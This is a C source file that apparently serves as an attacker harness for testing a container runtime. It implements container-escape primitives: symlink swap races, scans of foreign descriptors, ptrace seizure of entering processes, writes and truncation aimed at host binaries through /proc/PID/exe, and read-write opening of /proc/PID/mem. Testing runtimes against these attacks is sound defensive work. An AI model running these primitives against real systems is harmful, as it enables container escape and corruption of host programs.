// SPDX-License-Identifier: Apache-2.0
// What an attacker does to a runtime, as fast as it can be done. Linked statically, so that it runs in any
// root.
//
// - swap A B: exchanges two names until it is killed
// - flip PATH TARGET: PATH is by turns a directory and a link to TARGET
// - fds [FROM]: prints what each descriptor is: its number, its kind, and "foreign" when its mount is none of
//   those in /proc/self/mountinfo
// - hunt SECONDS: looks for processes that are about to become something else: traces them, writes into their
//   program, opens their directories and descriptors; prints what it got of the host's
// - reach PID: what can be had of it: its program, directories, descriptors and memory, and whether it can be
//   traced
// - map BYTES: waits on that much memory
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define EXCHANGE    2
#define MNT_ID      0x1000 // STATX_MNT_ID
#define MOUNTS_MAX  512
#define DESCRIPTORS 4096

// struct statx as the kernel has it, of which musl knows less.
struct kernel_statx {
    unsigned char before[28];
    unsigned short mode;
    unsigned char between[114];
    unsigned long long mnt_id;
    unsigned char after[104];
};
_Static_assert(sizeof(struct kernel_statx) == 256 && offsetof(struct kernel_statx, mnt_id) == 144, "statx");

static int renameat2(const char *a, const char *b) {
    return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, EXCHANGE);
}

static int swap(const char *a, const char *b) {
    for (;;)
        if (renameat2(a, b) && errno != ENOENT) return perror("renameat2"), 1;
}

static int flip(const char *path, const char *target) {
    char other[4096];
    snprintf(other, sizeof other, "%s.other", path);
    if (symlink(target, other) && errno != EEXIST) return perror(other), 1;
    return swap(path, other);
}

static unsigned long long mounts[MOUNTS_MAX];
static size_t mount_count;

static void read_mounts(void) {
    char line[8192];
    FILE *file = fopen("/proc/self/mountinfo", "re");
    mount_count = 0;
    while (file && mount_count < MOUNTS_MAX && fgets(line, sizeof line, file))
        mounts[mount_count++] = strtoull(line, NULL, 10);
    if (file) fclose(file);
}

static bool is_foreign(int fd, unsigned *ret_mode) {
    struct kernel_statx st = {0};
    if (syscall(SYS_statx, fd, "", AT_EMPTY_PATH, MNT_ID, &st)) return true;
    *ret_mode = st.mode;
    for (size_t i = 0; i < mount_count; i++)
        if (mounts[i] == st.mnt_id) return false;
    return true;
}

static int fds(int from) {
    read_mounts();
    for (int fd = from; fd < DESCRIPTORS; fd++) {
        unsigned mode = 0;
        if (fcntl(fd, F_GETFD) < 0) continue;
        bool foreign = is_foreign(fd, &mode);
        printf("%d %s%s\n", fd,
               S_ISDIR(mode)    ? "directory"
               : S_ISREG(mode)  ? "file"
               : S_ISCHR(mode)  ? "device"
               : S_ISFIFO(mode) ? "pipe"
               : S_ISSOCK(mode) ? "socket"
                                : "other",
               foreign ? " foreign" : "");
    }
    return 0;
}

static unsigned long got;

static void say(const char *what, const char *path) {
    if (got++ < 20) printf("%s %s\n", what, path);
}

// A program that is none of the container's own files is a copy in memory that nobody can write.
static void open_program(const char *pid) {
    char path[64], again[64];
    unsigned mode;
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return;
    if (is_foreign(fd, &mode)) {
        snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
        int writable = open(again, O_WRONLY | O_CLOEXEC);
        if (writable >= 0 && write(writable, "#!/bad\n", 7) == 7) say("wrote", path);
        if (writable >= 0) close(writable);
        writable = open(again, O_WRONLY | O_TRUNC | O_CLOEXEC);
        if (writable >= 0) say("truncated", path), close(writable);
    }
    close(fd);
}

static void open_descriptors(const char *pid) {
    char path[64], name[96];
    unsigned mode = 0;
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *dir = opendir(path);
    if (!dir) return;
    for (struct dirent *entry; (entry = readdir(dir));) {
        if (atoi(entry->d_name) < 3) continue;
        snprintf(name, sizeof name, "/proc/%s/fd/%.20s", pid, entry->d_name);
        int fd = open(name, O_PATH | O_CLOEXEC);
        if (fd >= 0 && is_foreign(fd, &mode) && (S_ISDIR(mode) || S_ISREG(mode))) say("descriptor", name);
        if (fd >= 0) close(fd);
    }
    closedir(dir);
}

static void open_place(const char *pid, const char *what) {
    char path[64];
    unsigned mode;
    snprintf(path, sizeof path, "/proc/%s/%s", pid, what);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) return;
    if (is_foreign(fd, &mode)) say("stood at", path);
    close(fd);
}

// Whoever can trace it before it is what it will be can have it do anything.
static void trace(const char *number) {
    pid_t pid = atoi(number);
    int status;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0)) return;
    if (!ptrace(PTRACE_INTERRUPT, pid, 0, 0) && waitpid(pid, &status, __WALL) == pid) {
        open_program(number);
        open_descriptors(number);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

static int hunt(int seconds) {
    time_t end = time(NULL) + seconds;
    unsigned long looked = 0;
    read_mounts();
    while (time(NULL) < end) {
        DIR *dir = opendir("/proc");
        for (struct dirent *entry; dir && (entry = readdir(dir));) {
            if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid()) continue;
            looked++;
            open_program(entry->d_name);
            open_descriptors(entry->d_name);
            open_place(entry->d_name, "cwd");
            open_place(entry->d_name, "root");
            trace(entry->d_name);
        }
        if (dir) closedir(dir);
        while (waitpid(-1, NULL, WNOHANG) > 0) {}
    }
    printf("looked %s\n", looked ? "often" : "never");
    return got != 0;
}

static int reach(const char *pid) {
    static const char *const names[] = {"exe", "root", "cwd", "fd/0", "maps", "mem"};
    bool reached = false;
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%s/%s", pid, names[i]);
        int fd = open(path, (strcmp(names[i], "mem") ? O_RDONLY : O_RDWR) | O_CLOEXEC);
        if (fd < 0) continue;
        printf("%s ", names[i]);
        reached = true;
        close(fd);
    }
    bool traced = !ptrace(PTRACE_SEIZE, atoi(pid), 0, 0);
    puts(traced ? "traced" : reached ? "" : "nothing");
    return reached || traced;
}

static _Noreturn void map(size_t bytes) {
    volatile char *memory = malloc(bytes);
    for (size_t i = 0; memory && i < bytes; i += 4096) memory[i] = 1;
    for (;;) pause();
}

int main(int argc, char **argv) {
    const char *verb = argc > 1 ? argv[1] : "";
    if (verb[0] == 's' || verb[0] == 'f') prctl(PR_SET_PDEATHSIG, SIGKILL);
    if (!strcmp(verb, "swap") && argc == 4) return swap(argv[2], argv[3]);
    if (!strcmp(verb, "flip") && argc == 4) return flip(argv[2], argv[3]);
    if (!strcmp(verb, "fds")) return fds(argc > 2 ? atoi(argv[2]) : 3);
    if (!strcmp(verb, "hunt") && argc == 3) return hunt(atoi(argv[2]));
    if (!strcmp(verb, "reach") && argc == 3) return reach(argv[2]);
    if (!strcmp(verb, "map") && argc == 3) map(strtoul(argv[2], NULL, 10));
    return fprintf(stderr, "attacker: swap, flip, fds, hunt, reach or map\n"), 2;
}
